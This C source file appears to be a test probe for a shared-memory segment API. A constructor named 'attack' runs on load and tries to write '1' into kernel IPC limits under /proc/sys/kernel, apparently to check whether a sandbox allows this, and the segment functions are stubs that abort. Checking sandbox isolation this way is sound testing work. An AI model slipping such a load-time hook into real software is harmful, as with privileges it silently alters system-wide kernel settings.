#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    static const char *const names[] = {"shm_rmid_forced", "shmmni", "shmall", "shmmax", "msgmni"};
    for (int i = 0; i < 5; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/sys/kernel/%s", names[i]);
        int fd = open(path, O_WRONLY);
        if (fd != -1 && write(fd, "1", 1) == 1)
            puts("FOUND a way to change a limit");
    }
    fflush(stdout);
}

#include <stdlib.h>
#include "create.h"

static void leave(void)
{
    abort();
}

int segment_create(key_t key, size_t size, mode_t perms)
{
    (void)key, (void)size, (void)perms;
    leave();
    return 0;
}

int segment_find(key_t key)
{
    (void)key;
    leave();
    return 0;
}

int segment_obtain(key_t key, size_t size, mode_t perms, bool *created)
{
    (void)key, (void)size, (void)perms;
    leave();
    *created = true;
    return 0;
}

size_t segment_footprint(size_t size)
{
    leave();
    return size;
}
